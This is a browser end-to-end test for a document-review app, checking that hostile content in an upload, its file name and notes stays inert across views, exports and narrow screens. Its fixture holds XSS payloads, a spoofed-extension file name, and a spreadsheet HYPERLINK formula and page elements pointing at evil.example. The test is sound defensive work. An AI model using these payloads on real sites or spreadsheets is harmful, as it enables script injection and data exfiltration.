/** Hostile words in every field that a document, its name or a note has: they are shown, and never act. */

import { readFile } from 'node:fs/promises'
import { EMAIL, INJECTION } from './fixtures/documents.ts'
import { SCAN_MS } from './pages/scan.ts'
import { expect, test } from './test.ts'

const MARKUP = '<img src=x onerror=window.acted=1><script>window.acted=1</script>'
const NAME = `${MARKUP.replaceAll('/', '')}\u202e=1+1 ${'n'.repeat(120)}.html`
const ENDLESS = 'x'.repeat(10_000)
const PAGE = `<!doctype html><title>${MARKUP}</title><body onload="window.acted=1">
<h1>=HYPERLINK("https://evil.example/?"&A1)</h1><base href="https://evil.example/">
<p>Write to ${EMAIL}\u202e gnp.exe \u0007\u001b[31m please: ${INJECTION} &lt;script&gt;window.acted=1&lt;/script&gt;.</p>
<a href="javascript:window.acted=1">a link</a><iframe src="https://evil.example/"></iframe>
<svg onload="window.acted=1"></svg><style>@import "https://evil.example/a.css"</style>
<link rel="stylesheet" href="https://evil.example/b.css"><meta http-equiv="refresh" content="0;url=https://evil.example">
<p>${Buffer.from(`${INJECTION} ${MARKUP}`).toString('base64')}</p><pre>${ENDLESS}</pre>${MARKUP}`

test('hostile words in every field are shown, and never act', async ({
  scan,
  review,
  page,
  service,
}, testInfo) => {
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!/^(?:blob|data):/.test(request.url()) && !request.url().startsWith(service.baseUrl)) {
      elsewhere.push(request.url())
    }
  })
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const expectQuiet = async () => {
    expect(await page.evaluate(() => 'acted' in window)).toBe(false)
    // Nothing widens the window either.
    await expect
      .poll(() => page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth))
      .toBeLessThanOrEqual(0)
    expect([elsewhere, dialogs]).toEqual([[], []])
  }

  await scan.chooseFiles([{ name: NAME, mimeType: 'text/html', buffer: Buffer.from(PAGE) }])
  const row = page.getByRole('listitem').filter({ hasText: 'onerror' })
  await expect(row).toBeVisible()
  await expect(row.getByText('Waiting', { exact: true })).toHaveCount(0, { timeout: SCAN_MS })
  await expect(row.getByRole('progressbar')).toHaveCount(0, { timeout: SCAN_MS })
  await expectQuiet()
  await row.getByRole('link', { name: /^Open / }).click()

  await expect(review.selectedFinding()).toHaveCount(1)
  await page.keyboard.press('n')
  await expect(review.judgement().getByRole('textbox', { name: 'Note' })).toBeFocused()
  await page.keyboard.type(`${MARKUP} =1+1`)
  await page.keyboard.press('Control+Enter')
  for (const view of ['Text', 'Formatted', 'Decoded', 'Bytes']) {
    await review.document.getByRole('radio', { name: view }).click()
    const mark = review.document.locator('[data-ev]').first()
    await expect(mark).toBeVisible()
    // A text that is still being moved to what is selected leaves the pointer beside the mark.
    await expect(async () => {
      await page.mouse.move(0, 0)
      await mark.hover()
      await expect(page.getByRole('tooltip')).toBeVisible({ timeout: 2_000 })
    }).toPass()
    await expectQuiet()
    await page.screenshot({ path: testInfo.outputPath(`${view}.png`) })
  }

  await page.keyboard.press('Escape')
  // A telephone's width, a pane at a time.
  const { width = 0, height = 0 } = page.viewportSize() ?? {}
  await page.setViewportSize({ width: 400, height: 800 })
  for (const tab of ['Findings', 'Document', 'Details']) {
    await page.getByRole('tab', { name: tab }).click()
    await expect(page.getByRole('tab', { name: tab, selected: true })).toBeVisible()
    await expectQuiet()
    await page.screenshot({ path: testInfo.outputPath(`narrow ${tab}.png`) })
  }
  await page.setViewportSize({ width, height })
  await review.document.getByRole('radio', { name: 'Text' }).click()
  const report = await exported('Report to read')
  const table = await exported('Table')
  expect(table.text).toContain('onerror')
  expect(table.text).not.toMatch(/(?:^\ufeff?|,|\n)"?\s*[=+@-]/)
  await page.getByRole('link', { name: 'History', exact: true }).click()
  await expect(page.getByText('onerror').first()).toBeVisible()
  await expectQuiet()

  // The report by itself, as whoever it is sent to opens it: it asks for nothing.
  await page.goto(`file://${report.path}`)
  await expect(page.getByRole('heading', { level: 1 })).toContainText('onerror')
  expect(await page.evaluate(() => 'acted' in window)).toBe(false)
  expect(elsewhere.filter((address) => !address.startsWith('file://'))).toEqual([])
  await page.screenshot({ path: testInfo.outputPath('report.png') })

  async function exported(choice: string) {
    await review.verdict.getByRole('button', { name: 'Export' }).click()
    const download = page.waitForEvent('download')
    await page.getByRole('menuitem', { name: choice }).first().click()
    const file = await download
    expect(file.suggestedFilename()).not.toMatch(/[\u202a-\u202e<>/\\]/)
    const path = testInfo.outputPath(choice === 'Table' ? 'table.csv' : 'report.html')
    await file.saveAs(path)
    return { path, text: await readFile(path, 'utf8') }
  }
})
